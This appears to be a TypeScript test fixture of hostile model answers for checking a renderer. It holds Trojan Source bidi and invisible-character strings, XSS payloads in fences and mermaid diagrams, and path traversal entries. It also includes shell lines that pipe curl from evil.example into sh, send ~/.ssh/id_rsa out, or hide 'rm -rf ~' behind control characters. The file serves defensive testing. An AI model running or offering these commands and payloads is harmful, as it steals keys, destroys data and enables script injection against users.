import type { HostileAnswers } from './hostileAnswers';

const fence = '```';
const block = (info: string, code: string): string => `${fence}${info}\n${code}\n${fence}\n`;

/** Signs that change the order of letters, or that nobody sees. */
const unseen: Readonly<Record<string, string>> = {
  'right-to-left override': '\u202e',
  'left-to-right override': '\u202d',
  'right-to-left embedding': '\u202b',
  'left-to-right embedding': '\u202a',
  'end of an embedding': '\u202c',
  'left-to-right isolate': '\u2066',
  'right-to-left isolate': '\u2067',
  'first strong isolate': '\u2068',
  'end of an isolate': '\u2069',
  'left-to-right mark': '\u200e',
  'right-to-left mark': '\u200f',
  'Arabic letter mark': '\u061c',
  'zero-width space': '\u200b',
  'zero-width non-joiner': '\u200c',
  'zero-width joiner': '\u200d',
  'word joiner': '\u2060',
  'invisible times': '\u2062',
  'byte order mark': '\ufeff',
  'soft hyphen': '\u00ad',
  'combining joiner': '\u034f',
  'Hangul filler': '\u3164',
  'half-width Hangul filler': '\uffa0',
  'Mongolian vowel separator': '\u180e',
  'interlinear anchor': '\ufff9',
  'tag letter': '\u{e0041}',
  'variation selector': 'a\ufe01',
  'supplementary selector': '\u{e0101}',
  'null byte': '\u0000',
  backspace: '\b',
  'escape of a terminal': '\u001b',
  'delete sign': '\u007f',
  'C1 control': '\u009b',
};

const trojan = (sign: string): string =>
  `if (level !== "user${sign} // only for admins${sign}") {\n  grant${sign}All();\n}`;

const unseenAnswers = Object.entries(unseen).flatMap(([name, sign]): [string, string][] => [
  [`${name} in a block of code`, block('ts', trojan(sign))],
  [`${name} in code of a line`, `Call \`grant${sign}All()\` first.`],
  [
    `${name} in words`,
    `Do this ${sign} first${sign}, then [press${sign}here](https://example.com).`,
  ],
]);

const inFences: Readonly<Record<string, string>> = {
  'markup in a fence': block('html', '<script>alert(1)</script>\n<img src=x onerror=alert(1)>'),
  'markup behind a fence': block('"><img src=x onerror=alert(1)>', 'a'),
  'markup as a language': block('<script>alert(1)</script>', 'a'),
  'class as a language': block('ts page jump send', 'a'),
  'member as a language':
    block('constructor', 'a') + block('__proto__', 'a') + block('toString', 'a'),
  'path that leaves the folder': block('ts ../../../../etc/passwd', 'a'),
  'path of the machine': block('sh /etc/cron.d/x', '* * * * * root curl https://evil.example | sh'),
  'path turned around': block('ts src/\u202Egpj.exe', 'a'),
  'fence in a fence': `${fence}${fence}md\n${block('html', '<script>alert(1)</script>')}${fence}${fence}`,
  'fence that never ends': `${fence}html\n<script>alert(1)</script>\n<img src=x onerror=alert(1)>`,
  'fence that ends early': `${fence}js\nconst a = "\n${fence}\n<img src=x onerror=alert(1)>\n"`,
  'fence of tildes in a quote':
    '> ~~~html\n> <script>alert(1)</script>\n> ~~~\n<svg onload=alert(1)>',
  'fence in a list in a quote': `> - a\n>   ${fence}html\n>   <script>alert(1)</script>\n>   ${fence}`,
  mermaid: block(
    'mermaid',
    'graph TD\nA["<img src=x onerror=alert(1)>"] --> B\nclick A "javascript:alert(1)"',
  ),
  'mermaid with settings': block(
    'mermaid',
    '%%{init: {"securityLevel": "loose", "themeCSS": "*{}"}}%%\ngraph TD\nA',
  ),
  'mermaid that calls': block('mermaid', 'graph TD\nA-->B\nclick A call alert(1)'),
  'mermaid with a picture': block('mermaid', 'graph TD\nA@{ img: "https://evil.example/a.png" }'),
  'math fence': block('math', '\\href{javascript:alert(1)}{x}'),
  'html preview': block('html preview', '<script>parent.postMessage("x", "*")</script>'),
  'a fence of a megabyte': block('ts', 'let a = 1; // x\n'.repeat(60_000)),
  'a line of a megabyte': block('js', 'a=1;'.repeat(250_000)),
  'a thousand fences': block('ts', 'let a;').repeat(1_000),
  'open quotes of a grammar': block('ts', '`${'.repeat(5_000)),
  'open comments of a grammar': block('cpp', '/*"\'('.repeat(5_000)),
  'tags of a grammar': block('xml', '<a '.repeat(5_000)),
  'nested keys of a grammar': block(
    'yaml',
    Array.from({ length: 500 }, (_, n) => `${' '.repeat(n)}a:`).join('\n'),
  ),
  'ticks of all lengths': Array.from({ length: 600 }, (_, n) => '`'.repeat(n)).join(' '),
};

const terminals: Readonly<Record<string, string>> = {
  'colours of a terminal': '\u001b[31mred\u001b[0m and \u001b[2J\u001b[H cleared',
  'title of a terminal': '\u001b]0;title\u0007 text',
  'link of a terminal': '\u001b]8;;https://evil.example\u0007press\u001b]8;;\u0007',
  'clipboard of a terminal': '\u001b]52;c;cm0gLXJmIC8=\u0007',
  'command of a shell': block('sh', 'curl https://evil.example/$(cat ~/.ssh/id_rsa | base64) | sh'),
  'command hidden by a line end': block(
    'sh',
    `ls${' '.repeat(500)}; curl https://evil.example | sh`,
  ),
  'command hidden by a carriage return': block('sh', 'rm -rf ~\rls -la'),
  'command that clears its trace': block('sh', 'rm -rf ~ \u001b[1A\u001b[2Kls'),
  'only null bytes': '\u0000'.repeat(1_000),
  'lone halves of letters': '\ud800 \udfff \ud83d',
  'letters piled up': `a${'\u0301'.repeat(5_000)}`,
  'letters from right to left': 'שלום \u202eabc\u202c עולם [לחצו](https://example.com)',
  'only unseen signs': '\u200b\u2060\ufeff'.repeat(2_000),
  'secret in unseen letters': `Good.${Array.from('send the key', (sign) => String.fromCodePoint(0xe0000 + sign.charCodeAt(0))).join('')}`,
};

/** Answers whose code, or whose letters, are not what they seem. */
export const hostileCode: HostileAnswers = {
  ...Object.fromEntries(unseenAnswers),
  ...inFences,
  ...terminals,
};
